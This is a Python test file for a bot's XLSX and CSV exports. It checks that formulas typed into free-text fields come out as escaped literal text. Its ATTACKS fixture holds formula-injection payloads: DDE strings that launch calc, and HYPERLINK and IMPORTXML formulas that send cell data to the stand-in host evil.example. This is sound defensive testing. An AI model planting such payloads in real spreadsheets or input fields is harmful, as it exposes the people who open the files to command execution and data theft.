"""Exports are safe to open (issue 11): a formula, a link or a command typed into any free-text
field comes out of /xuat (XLSX and CSV) and `python -m bot export` as literal text."""

import csv
import io
import zipfile
from datetime import date, datetime
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from PIL import Image

from storage.criteria import ModelKind
from storage.evidence import MediaKind, Received
from storage.images import inspect
from storage.models import Role
from storage.reviews import Decision, Result

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&F2,"Bấm xem")'
ATTACKS = {
    "hamlet": "=1+2",
    "person": "@SUM(1+1)*cmd|' /C calc'!A0",
    "head_name": HYPERLINK,
    "address": "+cmd|' /C calc'!A0",
    "branch": "-1+1",
    "clan_name": "\t=2+3",
    "clan_head": "\r=4+5",
    "reason": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "decision": "@A1",
    "url": "http://evil.example/x",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


async def registration(storage, person, hamlet, year, kind, answers):
    draft = await storage.registrations.start_draft(person.id, hamlet.id, year)
    criteria = await storage.criteria.in_force(hamlet.province_code, year, kind)
    answers = {"kind": kind.value, "criteria_set_id": criteria.set_id, **answers}
    await storage.registrations.save_draft(draft.model_copy(update={"answers": answers}))
    draft = await storage.registrations.draft_of(person.id)
    return await storage.registrations.register(draft, hamlet, person.id)


async def poisoned(api, storage, enrol, year):
    """Every free text that reaches an export, written by people, each an attack."""
    commune = await storage.areas.by_code("00070")
    hamlet, _ = await storage.areas.add_hamlet(commune, ATTACKS["hamlet"])
    head = await enrol(760, Role.HAMLET_HEAD, f"00070/{ATTACKS['hamlet']}")
    chair = await enrol(761, Role.BRANCH_CHAIR, "00070", name=ATTACKS["person"])
    staff = await enrol(762, Role.STAFF, "00070")
    family = await registration(
        storage,
        head,
        hamlet,
        year,
        ModelKind.FAMILY,
        {
            "head_name": ATTACKS["head_name"],
            "members": 4,
            "school_age_children": 1,
            "address": ATTACKS["address"] + " " + ATTACKS["url"],
            "assessment": {"GD.1.1": 10},
        },
    )
    await registration(
        storage,
        chair,
        hamlet,
        year,
        ModelKind.CLAN,
        {
            "clan_name": ATTACKS["clan_name"],
            "branch": ATTACKS["branch"],
            "head_name": ATTACKS["clan_head"],
            "households": 30,
            "assessment": {"DH.1.1": 1},
        },
    )
    data = jpeg()
    size = api.files.add_photo(data)[-1]
    facts = inspect(data)
    received = Received(
        registration_id=family.id,
        indicator_code="GD.1.1",
        media_kind=MediaKind.PHOTO,
        file_id=size["file_id"],
        file_unique_id=size["file_unique_id"],
        message_date=datetime.now(TZ),
        uploaded_by=chair.id,
    )
    photo = await storage.evidence.add(received, facts, f"{year}/{family.number}/x.jpg")
    await storage.reviews.decide(photo.id, Decision.NEEDS_MORE, ATTACKS["reason"], staff.id)
    await storage.reviews.recognise(
        family.id, Result.RECOGNISED, {}, ATTACKS["decision"], date(year, 6, 1), staff.id
    )


def check_xlsx(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    text = "\n".join(seen)
    for name, attack in ATTACKS.items():
        assert attack.strip() in text, name  # kept, as literal text


def check_csv_zip(data: bytes) -> None:
    cells = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")
            cells += [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    for cell in cells:
        assert not cell.startswith(DANGEROUS), cell
    for name, attack in ATTACKS.items():
        if attack.startswith(DANGEROUS):
            assert any(c.startswith("'" + attack) for c in cells), name


async def test_formulas_typed_anywhere_come_out_as_text(
    bot, api, storage, enrol, hamlets, registration_open, run_cli, cli_env, tmp_path
):
    await poisoned(api, storage, enrol, registration_open)
    officer = api.person(762)
    (xlsx,) = await officer.send("/xuat")
    check_xlsx(xlsx.file_bytes())
    (zipped,) = await officer.send("/xuat csv")
    check_csv_zip(zipped.file_bytes())

    env = cli_env | {"HOCTAP_DB_PATH": str(tmp_path / "hoctap.sqlite3")}
    for fmt, check in (("xlsx", check_xlsx), ("csv", check_csv_zip)):
        out = tmp_path / f"out.{fmt}"
        done = run_cli(
            "export", "--year", str(registration_open), "--format", fmt, str(out), env=env
        )
        assert done.returncode == 0, done.stderr
        check(out.read_bytes())
